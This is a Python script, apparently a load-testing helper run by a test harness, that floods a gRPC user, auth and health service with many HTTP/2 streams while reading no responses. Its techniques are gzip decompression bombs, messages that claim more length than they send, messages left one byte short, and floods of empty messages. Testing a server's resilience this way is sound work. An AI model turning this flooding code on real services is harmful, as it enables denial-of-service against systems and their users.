"""Runs an attacker as a separate process: `flood.py ADDRESS SERVICE METHOD KIND CONNECTIONS STREAMS`.

It opens the connections, begins as many calls on each, reads no responses, and prints a line. With no streams it
repeats the call for as long as it runs. It ends when its standard input does.
"""

import contextlib
import functools
import gzip
import select
import sys

import frames
from frames import field, message, request

BOMB = 4 << 20
USERS, AUTH, HEALTH = "user.v1.UserService", "auth.v1.AuthService", "grpc.health.v1.Health"
REFLECTION = [f"grpc.reflection.{version}.ServerReflection" for version in ("v1", "v1alpha")]
# Each method's longest text field, and the size of its largest message. Messages without a text field get an unknown
# field 15.
METHODS = {
    (USERS, "GetUser"): (1, 1_024), (USERS, "GetUserByEmail"): (1, 1_024), (USERS, "BatchGetUsers"): (1, 65_536),
    (USERS, "CreateUser"): (2, 8_192), (USERS, "ListUsers"): (3, 12_288), (USERS, "BulkCreateUsers"): (2, 8_192),
    (USERS, "UpdateUser"): (3, 8_192), (USERS, "DeleteUser"): (6, 8_192), (USERS, "UndeleteUser"): (1, 1_024),
    (USERS, "ImportUsers"): (3, 8_192), (USERS, "ExportUsers"): (2, 1_024), (USERS, "UserUpdates"): (3, 8_192),
    (AUTH, "SignIn"): (2, 8_192), (AUTH, "RefreshToken"): (1, 1_024), (AUTH, "RevokeToken"): (1, 1_024),
    (AUTH, "GetJsonWebKeySet"): (15, 1_024),
    (HEALTH, "Check"): (1, 1_024), (HEALTH, "List"): (15, 1_024), (HEALTH, "Watch"): (1, 1_024),
    **{(service, "ServerReflectionInfo"): (1, 4_096) for service in REFLECTION},
}

MANY = {"BulkCreateUsers", "ImportUsers", "UserUpdates", "ServerReflectionInfo"}


def call_of(service, method, **replaced):
    return request(method, path=f"/{service}/{method}", **replaced)


def varint(number):
    parts = []
    while number >= 0x80:
        parts.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes([*parts, number])


@functools.cache
def text(number, length):
    """Returns a string field of `length` bytes."""
    return bytes([number << 3 | 2]) + varint(length) + b"x" * length


@functools.cache
def compressed(payload):
    return message(gzip.compress(payload), flag=1)


def body_of(service, method, kind, name):
    """Returns the bytes that each call sends, and whether they are its whole request."""
    number, limit = METHODS[service, method]
    if kind == "bomb":
        return compressed(text(number, BOMB)), False
    if kind == "long":
        # The body fills a stream's window, but its message is longer.
        return b"\0" + BOMB.to_bytes(4, "big") + bytes(65_000), False
    wrap = compressed if kind == "compressed" else message
    if kind == "empty":
        return message() * 1_000, False
    if method == "BulkCreateUsers":
        rows = [field(1, f"{name}.{row}@example.com") + text(2, 256) for row in range(20)]
        return b"".join(wrap(row) for row in rows), False
    if method == "ServerReflectionInfo":
        # Each response has the whole request, twice, and a file. Unread requests hold back the connection's window, so
        # no more than one uncompressed request could be sent.
        return wrap(text(1, limit - 100) + field(4, "user.v1.UserService")) * (4 if kind == "compressed" else 1), False
    # The longest allowed message. Uncompressed, it is sent without its last byte.
    longest = text(number, limit - 3)
    return (compressed(longest), True) if kind == "compressed" else (message(longest)[:-1], False)


def begin(client, service, method, kind, name, streams):
    """Begins the calls, as far as the server's windows and refusals allow."""
    encoding = None if kind in ("long", "plain") else "gzip"
    for stream in range(1, 2 * streams, 2):
        body, is_whole = body_of(service, method, kind, f"{name}.{stream}")
        client.headers(stream, call_of(service, method, grpc_encoding=encoding))
        client.upload(stream, body, end=is_whole)
    client.round_trip()


def repeat(client, service, method):
    """Repeats the call until standard input ends. Returns the number of calls."""
    body, _ = body_of(service, method, "bomb", "")
    headers, count = call_of(service, method, grpc_encoding="gzip"), 0
    while not select.select([sys.stdin], [], [], 0)[0]:
        client.call(1 + 2 * count, headers, body)
        count += 1
    return count


def main(address, service, method, kind, connections, streams):
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(frames.Client(address, window=0 if streams else frames.LARGEST_WINDOW))
                   for _ in range(connections)]
        if not streams:
            print("begun", flush=True)
            print(repeat(clients[0], service, method))
            return
        for number, client in enumerate(clients):
            begin(client, service, method, kind, f"user{number}", streams)
        print("begun", flush=True)
        sys.stdin.read()


if __name__ == "__main__":
    main(*sys.argv[1:5], int(sys.argv[5]), int(sys.argv[6]))
